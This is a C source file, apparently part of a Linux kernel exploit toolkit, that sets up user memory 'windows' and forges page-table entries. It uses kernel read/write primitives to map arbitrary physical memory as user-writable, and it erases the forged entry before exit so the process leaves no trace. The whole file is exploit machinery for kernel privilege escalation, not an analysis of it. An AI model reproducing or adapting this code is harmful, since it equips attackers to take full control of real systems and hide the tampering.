// SPDX-License-Identifier: GPL-2.0-only
/* A user address whose page-table entry, at some level, waits to be forged. */
#include <stddef.h>
#include <sys/mman.h>

#include "attack.h"

#define WINDOW_PART	0x60	/* aligned for every level */

/* Not inherited by fork(): an entry in it will lie. */
volatile char *sparse_region(uint64_t base, int tables, int protection)
{
	size_t size = tables * PMD_SIZE;
	char *region = mmap((void *)base, size, protection,
			    MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE |
			    MAP_FIXED_NOREPLACE, -1, 0);

	if (region == MAP_FAILED)
		return NULL;
	madvise(region, size, MADV_NOHUGEPAGE);
	madvise(region, size, MADV_DONTFORK);
	return region;
}

/*
 * Touching the first page makes the tables; the entry next to the one that
 * leads to it stays empty. Not inherited by fork(): its entry lies.
 */
bool window_open(struct window *window, int level)
{
	uint64_t size = entry_size(level);
	volatile char *base = mmap((void *)user_room(WINDOW_PART), 2 * size,
				   PROT_READ | PROT_WRITE,
				   MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE |
				   MAP_FIXED_NOREPLACE, -1, 0);
	struct slot slot;

	if (base == MAP_FAILED)
		return false;
	madvise((void *)base, 2 * size, MADV_NOHUGEPAGE);
	madvise((void *)base, 2 * size, MADV_DONTFORK);
	base[0] = 1;

	window->page = (char *)base + size;
	window->size = size;
	window->forged = 0;
	if (kwalk((uint64_t)window->page, level, 0, &slot) || slot.level != level)
		return false;
	window->slot = slot.slot;
	return slot.value == 0;
}

bool window_open_behind(struct window *window, volatile char *mapped)
{
	struct slot slot;

	window->page = (char *)mapped + PAGE_SIZE;
	window->size = PAGE_SIZE;
	window->forged = 0;
	if (kwalk((uint64_t)window->page, LEVEL_PTE, 0, &slot))
		return false;
	window->slot = slot.slot;
	return true;
}

int window_map(struct window *window, store_function *store, const void *how,
	       uint64_t phys)
{
	uint64_t value = (phys & ~(window->size - 1)) | PTE_USER_RW;

	if (window->size != PAGE_SIZE)
		value = pte_block(value);
	window->forged = value;
	return store(how, window->slot, value);
}

/* Leave nothing behind that exit() would take for a page of ours. */
void window_close(struct window *window)
{
	uint64_t ours = ~PTE_BY_CPU;

	if (window->forged && (kread64(window->slot) & ours) == (window->forged & ours))
		kwrite64(window->slot, 0);
	window->forged = 0;
}
